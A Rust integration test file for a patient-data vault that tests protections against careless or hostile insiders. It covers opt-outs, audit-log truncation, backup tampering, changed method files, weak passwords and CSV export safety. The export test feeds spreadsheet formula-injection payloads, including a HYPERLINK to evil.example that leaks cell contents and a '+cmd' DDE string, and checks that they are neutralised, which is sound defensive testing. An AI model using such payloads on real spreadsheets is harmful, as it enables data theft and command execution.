//! What the vault promises, held against a careless or hostile insider (issue #31), each
//! tried through the binaries as an operator, or as someone with a shell on the vault host:
//! an opt-out reaches a release already built (item 1); the audit log cannot be cut short or
//! deleted unnoticed (item 2); an old backup does not bring opted-out persons or provided
//! releases back, and a backup edited after the fact is refused (items 3, 4); an approved
//! method's files changed in the store are refused (item 6); CSV exports are safe to open
//! in a spreadsheet (item 7); dates are calendar days (item 8); nothing of an opted-out
//! person is left in the store's files and their patient id never goes on a command line
//! (item 9); weak passwords and a second recipient with the same key are refused (item 10).

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{served, Operators, Served};
use serde_json::Value;
use vault::admin::service::Response;

/// Each test here runs a vault over a synthetic population; side by side on two cores they
/// starve each other's timeouts, so they take turns.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn vault() -> Command {
    Command::new(env!("CARGO_BIN_EXE_vault"))
}

/// Proposes the k-anonymity method in `ROOT/method` (k = `k`) and has rev1 approve it;
/// registers `lab-1` (keys in ROOT/lab) with `name`. Returns the method id.
fn method_and_recipient(s: &mut Served, k: usize, name: &str) -> String {
    let root = s.fx.root.clone();
    let rev1 = s.ops.login("rev1");
    common::write_method(&root.join("method"), k);
    let r = s.ops.call(
        "method.propose",
        Some(&s.admin),
        &[
            ("name", "age-sex-postal"),
            ("dir", root.join("method").to_str().expect("utf-8")),
        ],
    );
    assert!(r.ok, "{:?}", r.error);
    let method = r.result["id"].as_str().expect("id").to_owned();
    let r = s
        .ops
        .call("method.approve", Some(&rev1), &[("id", &method)]);
    assert!(r.ok, "{:?}", r.error);
    let lab_pub = common::researcher_keys(&root.join("lab"));
    let r = s.ops.call(
        "recipient.add",
        Some(&s.admin),
        &[
            ("id", "lab-1"),
            ("name", name),
            ("organisation", "Example University"),
            ("key", lab_pub.trim()),
            ("contact", "lab@example.ac.jp"),
        ],
    );
    assert!(r.ok, "{:?}", r.error);
    method
}

fn request(ops: &Operators, token: &str, method: &str, date: &str) -> Response {
    ops.call(
        "release.request",
        Some(token),
        &[
            ("recipient", "lab-1"),
            ("purpose", "糖尿病の疫学研究"),
            ("committee_decision", "C-2026-031"),
            ("committee_date", date),
            ("conditions", "研究目的外利用・第三者提供の禁止"),
            ("cohort", "all"),
            ("method", method),
        ],
    )
}

/// (institution, patient id) of the first person of the synthetic truth.
fn first_person(root: &Path) -> (String, String) {
    let truth = std::fs::read_to_string(root.join("synth/truth/links.csv")).expect("truth");
    let f: Vec<String> = truth
        .lines()
        .nth(1)
        .expect("a person")
        .split(',')
        .map(str::to_owned)
        .collect();
    (f[1].clone(), f[2].clone())
}

/// Opens a package of the egress outbox as the researcher does (`enclave receive --file`)
/// and returns the number of rows the researcher got (checked k-anonymous by a count of our
/// own).
fn received_rows(root: &Path, store: &Path, outbox: &Path, file: &str, k: usize) -> usize {
    let out_dir = root.join("lab/got");
    let out = Command::new(common::bin("enclave"))
        .arg("receive")
        .arg("--key")
        .arg(root.join("lab/lab.key"))
        .arg("--vault-key")
        .arg(store.join("keys/release.pub"))
        .arg("--receipt-key")
        .arg(root.join("lab/receipt.key"))
        .arg("--out")
        .arg(&out_dir)
        .arg("--file")
        .arg(outbox.join("incoming").join(file))
        .output()
        .expect("enclave receive");
    common::ok(&out, "enclave receive --file");
    let id = file.split('.').next().expect("release id");
    let (_, _, n) = common::check_received(&out_dir.join(id), &store.join("keys/release.pub"), k);
    n
}

fn logged_in_cli(ops: &mut Operators, root: &Path, user: &str) -> PathBuf {
    let session = root.join(format!("{user}.session"));
    let code = ops.code(user);
    let login = format!("{}\n{code}\n", ops.passwords[user]);
    common::ok(
        &common::admin_cli(
            vault(),
            &ops.socket,
            &session,
            &["login", "--user", user],
            &login,
        ),
        "login",
    );
    session
}

/// Items 1, 7, 8 and 10 (recipient keys): a release built before an opt-out cannot be
/// confirmed until rebuilt; the rebuilt one reaches the researcher without the person; the
/// ledger export is formula-safe; impossible dates are refused.
#[test]
fn an_opt_out_reaches_a_release_already_built() {
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"詳細")"#;
    let mut s = served();
    let root = s.fx.root.clone();
    let method = method_and_recipient(&mut s, 3, evil);
    let op = s.ops.login("op1");
    let rev1 = s.ops.login("rev1");
    let rev2 = s.ops.login("rev2");

    // Item 8: dates that are not days of the calendar, or far outside, are refused where
    // they are typed, and nothing is built.
    for (bad, says) in [
        ("2026-02-31", "not a day of the calendar"),
        ("20260101x", "not a date"),
        ("9999-12-31", "outside 1900–2100"),
    ] {
        let r = request(&s.ops, &op, &method, bad);
        assert!(!r.ok, "{bad} accepted");
        let e = r.error.unwrap_or_default();
        assert!(e.contains(says), "{bad}: {e}");
    }
    assert!(!s.store.join("admin/releases/R0001").exists());

    // Item 10: the same encryption key under another owner line is not a second recipient.
    let forged = std::fs::read_to_string(root.join("lab/lab.pub"))
        .expect("pub")
        .replace("lab-1", "lab-2");
    let r = s.ops.call(
        "recipient.add",
        Some(&s.admin),
        &[
            ("id", "lab-2"),
            ("name", "別人"),
            ("organisation", "Other"),
            ("key", forged.trim()),
            ("contact", "x@example.org"),
        ],
    );
    assert!(!r.ok, "one key registered for two recipients");
    assert!(
        r.error
            .as_deref()
            .unwrap_or("")
            .contains("already registered for recipient \"lab-1\""),
        "{:?}",
        r.error
    );

    // R0001 will be cancelled, R0002 is the release; both hold the person.
    let r = request(&s.ops, &op, &method, "2026-11-01");
    assert!(r.ok, "{:?} {}", r.error, common::serve_log(&root));
    let r = s.ops.call("release.cancel", Some(&op), &[("id", "R0001")]);
    assert!(r.ok, "{:?}", r.error);
    let r = request(&s.ops, &op, &method, "20261101");
    assert!(r.ok, "{:?}", r.error);
    let id = r.result["id"].as_str().expect("id").to_owned();
    let rows_before = r.result["rows"].as_u64().expect("rows");
    let r = s.ops.call("release.approve", Some(&rev1), &[("id", &id)]);
    assert!(r.ok, "{:?}", r.error);

    // The person opts out after the approval.
    let (inst, pid) = first_person(&root);
    let r = s.ops.call(
        "optout.add",
        Some(&op),
        &[
            ("institution", &inst),
            ("patient_id", &pid),
            ("source", "本人の求め"),
        ],
    );
    assert!(r.ok, "{:?}", r.error);
    assert_eq!(r.result["releases_rebuild"], serde_json::json!([id]));

    // The build that held them cannot leave: confirm is refused, naming the opt-out and
    // the rebuild, and nothing reaches the outbox.
    let r = s.ops.call("release.confirm", Some(&rev2), &[("id", &id)]);
    assert!(!r.ok, "a build holding an opted-out person was confirmed");
    let e = r.error.unwrap_or_default();
    assert!(
        e.contains("opt-out #1") && e.contains("release rebuild"),
        "{e}"
    );
    let incoming = s.outbox.join("incoming");
    assert_eq!(
        std::fs::read_dir(&incoming).map(|d| d.count()).unwrap_or(0),
        0,
        "nothing may reach the outbox"
    );
    // The vault's copies of the person's rows are gone from every build, cancelled too;
    // the reports (no rows) stay for the record.
    for r in ["R0001", &id] {
        let home = s.store.join("admin/releases").join(r);
        assert!(!home.join("data.csv.sealed").exists(), "{r} keeps data.csv");
        assert!(
            !home.join("data.parquet.sealed").exists(),
            "{r} keeps parquet"
        );
        assert!(home.join("report.json.sealed").exists());
    }
    let r = s.ops.call("release.show", Some(&rev2), &[("id", &id)]);
    assert!(r.ok, "{:?}", r.error);
    assert_eq!(r.result["release"]["stale"], serde_json::json!([1]));

    // Rebuilt under the same method: one person fewer, and it needs approval again.
    let r = s.ops.call("release.rebuild", Some(&op), &[("id", &id)]);
    assert!(r.ok, "{:?}", r.error);
    let rows_after = r.result["rows"].as_u64().expect("rows");
    assert_eq!(
        rows_after + 1,
        rows_before,
        "the rebuild drops exactly the person"
    );
    assert_eq!(r.result["state"], "built");
    let r = s.ops.call("release.confirm", Some(&rev2), &[("id", &id)]);
    assert!(
        !r.ok,
        "the approval of the old build counted for the new one"
    );
    let r = s.ops.call("release.approve", Some(&rev1), &[("id", &id)]);
    assert!(r.ok, "{:?}", r.error);
    let r = s.ops.call("release.confirm", Some(&rev2), &[("id", &id)]);
    assert!(r.ok, "{:?} {}", r.error, common::serve_log(&root));
    let file = r.result["outbox_file"].as_str().expect("file").to_owned();
    let got = received_rows(&root, &s.store, &s.outbox, &file, 3);
    assert_eq!(
        got as u64, rows_after,
        "the researcher got the rebuilt table"
    );

    // Item 8 again: onward provision dates.
    for bad in ["2026-13-01", "x"] {
        let r = s.ops.call(
            "ledger.onward.add",
            Some(&op),
            &[
                ("release", &id),
                ("to", "+cmd|' /C calc'!A0"),
                ("purpose", "-2+3"),
                ("permission", "@SUM(A1)"),
                ("reported", bad),
            ],
        );
        assert!(!r.ok, "reported {bad} accepted");
    }
    let r = s.ops.call(
        "ledger.onward.add",
        Some(&op),
        &[
            ("release", &id),
            ("to", "+cmd|' /C calc'!A0"),
            ("purpose", "-2+3"),
            ("permission", "@SUM(A1)"),
            ("reported", "2026-12-01"),
        ],
    );
    assert!(r.ok, "{:?}", r.error);

    // Item 7: the ledger and the onward list as CSV, as an auditor opens them.
    let session = logged_in_cli(&mut s.ops, &root, "op1");
    for extra in [&[][..], &["--onward"][..]] {
        let out = vault()
            .arg("ledger")
            .arg("--csv")
            .arg("--socket")
            .arg(&s.ops.socket)
            .arg("--session-file")
            .arg(&session)
            .args(extra)
            .output()
            .expect("vault ledger");
        let text = common::ok(&out, "vault ledger --csv");
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let mut cells = 0;
        for rec in rdr.records() {
            for cell in rec.expect("csv").iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet evaluates: {cell:?}\n{text}"
                );
            }
        }
        assert!(cells > 10, "{text}");
        if extra.is_empty() {
            assert!(
                text.contains(&format!("'{}", evil.replace('"', "\"\""))),
                "{text}"
            );
            assert!(text
                .lines()
                .nth(1)
                .is_some_and(|l| l.contains(&rows_after.to_string())));
        } else {
            assert!(text.contains("'+cmd") && text.contains("'-2+3") && text.contains("'@SUM"));
        }
    }
    s.serve.kill();
}

/// Item 2: a log cut back to a signed checkpoint, cut by its last lines, or deleted, stops
/// the vault with an alert; `vault audit verify` says so with the master key, and with only
/// the auditor's key copy and the anchors kept on write-once media.
#[test]
fn a_log_cut_short_or_deleted_is_caught() {
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let mut s = served();
    let root = s.fx.root.clone();
    let aud = logged_in_cli(&mut s.ops, &root, "aud1");
    // Some work, an anchor onto "write-once media", more work.
    let op = s.ops.login("op1");
    for _ in 0..3 {
        assert!(s.ops.call("institution.list", Some(&op), &[]).ok);
    }
    let out = common::admin_cli(vault(), &s.ops.socket, &aud, &["audit", "anchor"], "");
    let anchor = common::ok(&out, "audit anchor");
    assert_eq!(anchor.lines().count(), 1, "{anchor}");
    let anchored: Value = serde_json::from_str(anchor.trim()).expect("a checkpoint line");
    assert_eq!(anchored["action"], "audit.checkpoint");
    let anchors = root.join("worm-anchors.jsonl");
    std::fs::write(&anchors, &anchor).expect("anchors");
    for _ in 0..3 {
        assert!(s.ops.call("institution.list", Some(&op), &[]).ok);
    }
    s.serve.kill();

    let log = s.store.join("admin/audit.log");
    let original = std::fs::read_to_string(&log).expect("log");
    let lines: Vec<&str> = original.lines().collect();
    // The auditor's copy of the key and a copy of the store without any secret key.
    let key_copy = root.join("audit.pub.copy");
    std::fs::copy(s.store.join("keys/audit.pub"), &key_copy).expect("copy");
    let verify = |store: &Path| {
        vault()
            .args(["audit", "verify", "--store"])
            .arg(store)
            .arg("--key")
            .arg(&key_copy)
            .arg("--anchor")
            .arg(&anchors)
            .output()
            .expect("verify")
    };
    let out = verify(&s.store);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let first_checkpoint = lines
        .iter()
        .position(|l| l.contains("\"audit.checkpoint\""))
        .expect("a checkpoint")
        + 1;
    let cases: Vec<(&str, Option<String>, &str)> = vec![
        (
            "cut back to the first signed checkpoint",
            Some(
                lines[..first_checkpoint]
                    .iter()
                    .map(|l| format!("{l}\n"))
                    .collect(),
            ),
            "entries were removed from its end",
        ),
        (
            "its last three lines removed",
            Some(
                lines[..lines.len() - 3]
                    .iter()
                    .map(|l| format!("{l}\n"))
                    .collect(),
            ),
            "entries were removed from its end",
        ),
        ("deleted", None, "missing"),
    ];
    for (what, text, says) in cases {
        match &text {
            Some(t) => std::fs::write(&log, t).expect("cut"),
            None => std::fs::remove_file(&log).expect("delete"),
        }
        // The socket of the previous run would make `serve` return at once.
        let _ = std::fs::remove_file(root.join("admin.sock"));
        let (_, said) = start_and_wait(&root, &s.store);
        assert!(said.contains(says), "{what}: {said}");
        let alerts =
            std::fs::read_to_string(s.store.join("admin/alerts.jsonl")).unwrap_or_default();
        assert!(
            alerts.contains("audit.truncated"),
            "{what}: no alert: {alerts}"
        );
        let out = vault()
            .args(["audit", "verify", "--store"])
            .arg(&s.store)
            .output()
            .expect("verify");
        assert_eq!(
            out.status.code(),
            Some(3),
            "{what}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        if what.starts_with("cut back") {
            // Without the vault's keys: the anchor catches it.
            let copy = root.join("store-copy");
            let _ = std::fs::remove_dir_all(&copy);
            for f in testkit::files_under(&s.store) {
                let rel = f.strip_prefix(&s.store).expect("under");
                if rel.starts_with("keys") || rel.to_string_lossy().contains("meta.sqlite") {
                    continue;
                }
                let to = copy.join(rel);
                std::fs::create_dir_all(to.parent().expect("parent")).expect("dir");
                std::fs::copy(&f, &to).expect("copy");
            }
            let out = verify(&copy);
            let said = String::from_utf8_lossy(&out.stdout);
            assert_eq!(out.status.code(), Some(3), "{said}");
            assert!(said.contains("anchor line 1"), "{said}");
        }
        std::fs::write(&log, &original).expect("put back");
    }
    // With the log put back it starts again: the refusals were the cuts.
    let _ = std::fs::remove_file(root.join("admin.sock"));
    let (started, said) = start_and_wait(&root, &s.store);
    assert!(
        started && !said.contains("does not hold what the vault wrote"),
        "{said}"
    );
}

/// Starts `vault serve` on `store` and waits for it to exit (a refusal) or for its socket
/// (then stops it); returns whether it exited with success and what it wrote.
fn start_and_wait(root: &Path, store: &Path) -> (bool, String) {
    let mut child = common::spawn_serve(vault(), root, store, "127.0.0.1:0", &[]);
    for _ in 0..400 {
        if let Ok(Some(status)) = child.try_wait() {
            return (status.success(), common::serve_log(root));
        }
        if root.join("admin.sock").exists() {
            let _ = child.kill();
            let _ = child.wait();
            return (true, common::serve_log(root));
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!(
        "serve neither refused nor started: {}",
        common::serve_log(root)
    );
}

/// Every file under `dir`, and whether any holds `needle`.
fn files_holding(dirs: &[&Path], needle: &[u8]) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for dir in dirs {
        let files = if dir.is_file() {
            vec![dir.to_path_buf()]
        } else {
            testkit::files_under(dir)
        };
        for f in files {
            let bytes = std::fs::read(&f).unwrap_or_default();
            if bytes.windows(needle.len()).any(|w| w == needle) {
                out.push(f);
            }
        }
    }
    out
}

/// Approves and confirms release `id` (rev1, rev2).
fn send(ops: &mut Operators, id: &str) {
    let rev1 = ops.login("rev1");
    let rev2 = ops.login("rev2");
    let r = ops.call("release.approve", Some(&rev1), &[("id", id)]);
    assert!(r.ok, "{:?}", r.error);
    let r = ops.call("release.confirm", Some(&rev2), &[("id", id)]);
    assert!(r.ok, "{:?}", r.error);
}

/// Items 3, 4 and 9: an opt-out and a release provided after a backup survive restoring it,
/// from the register kept apart; a restore without it, or of a backup edited after the
/// fact, is refused and leaves nothing behind; the opt-out's patient id is asked for, not
/// typed on the command line, and no file of the store holds it afterwards.
#[test]
fn restoring_an_old_backup_keeps_every_opt_out_and_release_provided() {
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let mut s = served();
    let root = s.fx.root.clone();
    let method = method_and_recipient(&mut s, 3, "研究 一郎");
    let op = s.ops.login("op1");
    let r = request(&s.ops, &op, &method, "2026-11-01");
    assert!(r.ok, "{:?}", r.error);
    let persons_before = r.result["selection"]["persons"].as_u64().expect("persons");
    send(&mut s.ops, "R0001");
    s.serve.kill();

    // The backup, and the keys' own offline copy.
    let backup = root.join("backup");
    common::ok(
        &vault()
            .args(["backup", "--store"])
            .arg(&s.store)
            .arg("--to")
            .arg(&backup)
            .output()
            .expect("backup"),
        "backup",
    );
    assert!(backup.join("manifest.mac").exists());
    let keys: Vec<(String, Vec<u8>)> = ["master.key", "link.key", "audit.key", "release.key"]
        .iter()
        .map(|k| {
            (
                (*k).to_owned(),
                std::fs::read(s.store.join("keys").join(k)).expect("key"),
            )
        })
        .collect();
    let put_keys = |dir: &Path| {
        std::fs::create_dir_all(dir.join("keys")).expect("dir");
        for (k, b) in &keys {
            std::fs::write(dir.join("keys").join(k), b).expect("key");
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(
                dir.join("keys").join(k),
                std::fs::Permissions::from_mode(0o600),
            )
            .expect("mode");
        }
    };

    // After the backup: an opt-out, entered at the command line with the patient id asked
    // for (never an argument), and a second release provided.
    let _ = std::fs::remove_file(root.join("admin.sock"));
    s.serve = common::Running(common::serve(
        vault(),
        &root,
        &s.store,
        &["--egress-outbox", s.outbox.to_str().expect("utf-8")],
    ));
    let (inst, pid) = first_person(&root);
    let session = logged_in_cli(&mut s.ops, &root, "op1");
    let out = common::admin_cli(
        vault(),
        &s.ops.socket,
        &session,
        &[
            "optout",
            "add",
            "--institution",
            &inst,
            "--patient-id",
            &pid,
            "--source",
            "x",
        ],
        "",
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "a patient id on the command line was taken"
    );
    let out = common::admin_cli(
        vault(),
        &s.ops.socket,
        &session,
        &[
            "optout",
            "add",
            "--institution",
            &inst,
            "--source",
            "本人の求め",
        ],
        &format!("{pid}\n"),
    );
    let said = common::ok(&out, "optout add");
    assert!(said.contains("\"records_deleted\""), "{said}");
    let op = s.ops.login("op1");
    let r = request(&s.ops, &op, &method, "2026-11-02");
    assert!(r.ok, "{:?}", r.error);
    let persons_after = r.result["selection"]["persons"].as_u64().expect("persons");
    assert_eq!(persons_after + 1, persons_before);
    // One person fewer than R0001, which the recipient holds: a differencing finding that a
    // reviewer accepts with a reason (the person left; the recipient is told to delete).
    let rev1 = s.ops.login("rev1");
    let r = s.ops.call(
        "release.override",
        Some(&rev1),
        &[
            ("id", "R0002"),
            ("reason", "撤回者1名、受領者に削除を依頼済み"),
        ],
    );
    assert!(r.ok, "{:?}", r.error);
    send(&mut s.ops, "R0002");
    s.serve.kill();
    // Item 9: no file of the store, nor the register, holds the patient id.
    let register = vault::admin::register::default_path(&s.store);
    let found = files_holding(&[&s.store, &register], pid.as_bytes());
    assert!(found.is_empty(), "the patient id is in {found:?}");

    // Item 4: a backup edited after the fact (its audit log cut, the manifest fixed to
    // match) is refused, and the failed restore leaves only what was there before.
    let forged = root.join("forged");
    for f in testkit::files_under(&backup) {
        let to = forged.join(f.strip_prefix(&backup).expect("under"));
        std::fs::create_dir_all(to.parent().expect("parent")).expect("dir");
        std::fs::copy(&f, &to).expect("copy");
    }
    let log_path = forged.join("files/admin/audit.log");
    let cut: String = std::fs::read_to_string(&log_path)
        .expect("log")
        .lines()
        .take(3)
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&log_path, &cut).expect("cut");
    let mut manifest: Value =
        serde_json::from_slice(&std::fs::read(forged.join("manifest.json")).expect("m"))
            .expect("json");
    for f in manifest["files"].as_array_mut().expect("files") {
        if f["path"] == "admin/audit.log" {
            f["bytes"] = serde_json::json!(cut.len());
            f["sha256"] = serde_json::json!(hex::encode(
                ring::digest::digest(&ring::digest::SHA256, cut.as_bytes()).as_ref()
            ));
        }
    }
    std::fs::write(
        forged.join("manifest.json"),
        serde_json::to_vec_pretty(&manifest).expect("json"),
    )
    .expect("write");
    let restore = |from: &Path, into: &Path, register: &Path| {
        vault()
            .args(["restore", "--from"])
            .arg(from)
            .arg("--store")
            .arg(into)
            .arg("--register")
            .arg(register)
            .output()
            .expect("restore")
    };
    let only_keys = |dir: &Path| {
        let left: Vec<PathBuf> = testkit::files_under(dir);
        assert_eq!(left.len(), keys.len(), "a failed restore left {left:?}");
    };
    let n1 = root.join("restored-forged");
    put_keys(&n1);
    let out = restore(&forged, &n1, &register);
    assert!(!out.status.success());
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(e.contains("not authentic"), "{e}");
    only_keys(&n1);
    // Item 3: without the register, refused too.
    let n2 = root.join("restored-no-register");
    put_keys(&n2);
    let out = restore(&backup, &n2, &root.join("no-such.register"));
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no register"));
    only_keys(&n2);
    // A restore that fails late (here: a register cut short, which is found only once the
    // backup's state is in place) also removes the batches, database and state it wrote.
    let n2b = root.join("restored-short-register");
    put_keys(&n2b);
    std::fs::write(root.join("short.register"), b"").expect("empty register");
    let out = restore(&backup, &n2b, &root.join("short.register"));
    assert!(!out.status.success(), "a register cut short was accepted");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("holds 0 line(s)"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    only_keys(&n2b);

    // The restore with the register: the opt-out and R0002 come back.
    let n3 = root.join("restored");
    put_keys(&n3);
    let out = restore(&backup, &n3, &register);
    let said = common::ok(&out, "restore");
    assert!(said.contains("re-applied 1 opt-out(s)"), "{said}");
    assert!(
        said.contains("1 release(s) provided since (R0002)"),
        "{said}"
    );
    let out = vault()
        .args(["audit", "verify", "--store"])
        .arg(&n3)
        .output()
        .expect("verify");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let _ = std::fs::remove_file(root.join("admin.sock"));
    let outbox2 = root.join("egress-outbox-2");
    let mut serve = common::Running(common::serve(
        vault(),
        &root,
        &n3,
        &["--egress-outbox", outbox2.to_str().expect("utf-8")],
    ));
    let op = s.ops.login("op1");
    let rev2 = s.ops.login("rev2");
    let r = s.ops.call("optout.list", Some(&op), &[]);
    assert_eq!(r.result.as_array().map(Vec::len), Some(1), "{:?}", r.result);
    let r = request(&s.ops, &op, &method, "2026-11-03");
    assert!(r.ok, "{:?}", r.error);
    assert_eq!(
        r.result["selection"]["persons"].as_u64(),
        Some(persons_after),
        "the restored store has the opted-out person again"
    );
    let r = s.ops.call("ledger.list", Some(&op), &[]);
    let ids: Vec<&str> = r
        .result
        .as_array()
        .expect("rows")
        .iter()
        .filter_map(|row| row["release"].as_str())
        .collect();
    assert_eq!(ids, ["R0001", "R0002"]);
    let r = s
        .ops
        .call("release.confirm", Some(&rev2), &[("id", "R0002")]);
    assert!(!r.ok, "a provided release was confirmed a second time");
    serve.kill();
}

/// Items 6 and 10: an approved method whose files were changed inside the store is refused
/// at use, naming the file; weak passwords are refused.
#[test]
fn a_changed_method_file_and_weak_passwords_are_refused() {
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let mut s = served();
    let method = method_and_recipient(&mut s, 3, "研究 一郎");
    let op = s.ops.login("op1");
    let file = s
        .store
        .join("admin/methods")
        .join(&method)
        .join("method.json");
    let text = std::fs::read_to_string(&file).expect("method.json");
    std::fs::write(&file, text.replace("\"k\": 3", "\"k\": 40")).expect("edit");
    let r = request(&s.ops, &op, &method, "2026-11-01");
    assert!(!r.ok, "a changed method was used");
    let e = r.error.unwrap_or_default();
    assert!(e.contains("file method.json has SHA-256"), "{e}");
    assert!(!s.store.join("admin/releases/R0001").exists());
    std::fs::write(&file, &text).expect("put back");
    std::fs::write(file.with_file_name("extra.csv"), "x;*\n").expect("add");
    let r = request(&s.ops, &op, &method, "2026-11-01");
    assert!(r
        .error
        .unwrap_or_default()
        .contains("file extra.csv was added"));
    std::fs::remove_file(file.with_file_name("extra.csv")).expect("rm");
    let r = request(&s.ops, &op, &method, "2026-11-01");
    assert!(r.ok, "{:?}", r.error);

    let pw = s.ops.passwords["op1"].clone();
    for (new, says) in [
        ("Passw0rd!!", "common word"),
        ("aaaaaaaaaA1!", "repeats characters"),
        ("Op1-@dm!n-Pass", "contains the user id"),
    ] {
        let r = s
            .ops
            .call("password", Some(&op), &[("old", &pw), ("new", new)]);
        let e = r.error.expect("refused");
        assert!(e.contains(says), "{new}: {e}");
    }
    let reversed: String = pw.chars().rev().collect();
    let r = s
        .ops
        .call("password", Some(&op), &[("old", &pw), ("new", &reversed)]);
    assert!(r.error.unwrap_or_default().contains("reversed"));
    let admin_pw = s.ops.passwords["admin"].clone();
    let r = s.ops.call(
        "password",
        Some(&s.admin),
        &[("old", &admin_pw), ("new", "@dm!n-Pass-2026")],
    );
    assert!(r.error.unwrap_or_default().contains("contains the user id"));
    s.serve.kill();
}

/// Item 5: accounts belong to persons. An administrator hands over a one-time token and never
/// sees a password or TOTP secret; the person enrols through the command line; the token
/// works once; one person cannot hold a second active account, by staff number or by name,
/// nor get one back by a reset.
#[test]
fn accounts_belong_to_persons_who_enrol_themselves() {
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let mut s = served();
    let root = s.fx.root.clone();
    let add = |ops: &Operators, admin: &str, user: &str, name: &str, staff: &str| {
        ops.call(
            "user.add",
            Some(admin),
            &[
                ("user", user),
                ("name", name),
                ("staff_number", staff),
                ("role", "reviewer"),
            ],
        )
    };
    // The same person again: by staff number, by name (spaces aside).
    let r = add(&s.ops, &s.admin, "rev9", "別名 太郎", "S-rev1");
    assert!(!r.ok, "a second active account by staff number");
    assert!(r
        .error
        .unwrap_or_default()
        .contains("already holds the active account \"rev1\""));
    let r = add(&s.ops, &s.admin, "rev9", "テスト　rev1", "S-999");
    assert!(!r.ok, "a second active account by name");

    // A new person: the administrator gets a token, nothing else.
    let r = add(&s.ops, &s.admin, "kato", "加藤 三郎", "S-0042");
    assert!(r.ok, "{:?}", r.error);
    let shown = r.result.to_string();
    assert!(
        !shown.contains("password") || shown.contains("set their own password"),
        "{shown}"
    );
    assert!(r.result.get("totp_secret").is_none() && r.result.get("first_password").is_none());
    let token = r.result["enrolment_token"]
        .as_str()
        .expect("token")
        .to_owned();
    // Before enrolment no login works, whatever is tried.
    let r = s.ops.call(
        "login",
        None,
        &[("user", "kato"), ("password", ""), ("totp", "000000")],
    );
    assert!(r.error.unwrap_or_default().contains("not enrolled"));
    // The person enrols at the command line: token and password asked for, TOTP secret shown
    // to them alone.
    let out = common::admin_cli(
        vault(),
        &s.ops.socket,
        &root.join("kato.session"),
        &["enrol", "--user", "kato"],
        &format!("{token}\nHikari-Mori#58\nHikari-Mori#58\n"),
    );
    let said = common::ok(&out, "enrol");
    let v: Value = serde_json::from_str(&said).expect("json");
    let secret =
        accounts::totp::base32_decode(v["totp_secret"].as_str().expect("secret")).expect("base32");
    s.ops.totp.insert("kato".into(), (secret, None));
    s.ops
        .passwords
        .insert("kato".into(), "Hikari-Mori#58".into());
    let _kato = s.ops.login("kato");
    // The token works once.
    let r = s.ops.call(
        "enrol",
        None,
        &[
            ("user", "kato"),
            ("token", &token),
            ("password", "Other-Pass#77x"),
        ],
    );
    assert!(!r.ok, "an enrolment token was used twice");
    // A reset gives a new token and locks the old credentials out until the person enrols.
    let r = s
        .ops
        .call("user.reset", Some(&s.admin), &[("user", "kato")]);
    assert!(r.ok, "{:?}", r.error);
    assert!(r.result.get("totp_secret").is_none());
    let r = s.ops.login_with("kato", "Hikari-Mori#58");
    assert!(!r.ok, "old credentials work after a reset");
    // A disabled account's person may get a new account; resetting the old one then would
    // give that person two active accounts, and is refused.
    assert!(
        s.ops
            .call("user.disable", Some(&s.admin), &[("user", "kato")])
            .ok
    );
    let r = add(&s.ops, &s.admin, "kato2", "加藤 三郎", "S-0042");
    assert!(r.ok, "{:?}", r.error);
    let r = s
        .ops
        .call("user.reset", Some(&s.admin), &[("user", "kato")]);
    assert!(!r.ok, "a reset re-activated a second account of one person");
    s.serve.kill();
    let entries = common::audit_entries(&s.store);
    assert!(entries
        .iter()
        .any(|e| e["action"] == "enrol" && e["outcome"] == "ok" && e["actor"] == "kato"));
    assert!(entries
        .iter()
        .any(|e| e["action"] == "enrol" && e["outcome"] == "refused"));
}
